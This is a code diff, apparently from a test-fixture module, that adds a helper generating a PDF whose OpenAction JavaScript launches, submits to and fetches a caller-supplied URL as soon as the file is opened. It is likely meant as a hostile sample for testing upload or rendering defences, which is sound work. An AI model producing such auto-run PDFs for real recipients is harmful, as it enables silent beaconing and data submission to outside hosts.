@@ -37,6 +37,24 @@ def pdf(size: int = 0, *, body: bytes = b"") -> bytes:
     return made if len(made) == size else build(filling[: len(filling) - (len(made) - size)])
 
 
+def hostile_pdf(url: str) -> bytes:
+    """A PDF whose script calls, sends and opens an address as soon as it is shown."""
+    script = f"app.launchURL('{url}/launch', false); this.submitForm('{url}/submit'); this.getURL('{url}/get', false);"
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
+        f"<< /S /JavaScript /JS ({script} app.alert('carteira');) >>".encode(),
+    ]
+    made, places = b"%PDF-1.7\n", []
+    for number, item in enumerate(objects, 1):
+        places.append(len(made))
+        made += b"%d 0 obj\n%s\nendobj\n" % (number, item)
+    table = b"".join(b"%010d 00000 n \n" % place for place in places)
+    end = b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(made)
+    return made + b"xref\n0 5\n0000000000 65535 f \n" + table + end
+
+
 def chunk(kind: bytes, data: bytes) -> bytes:
     return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
 
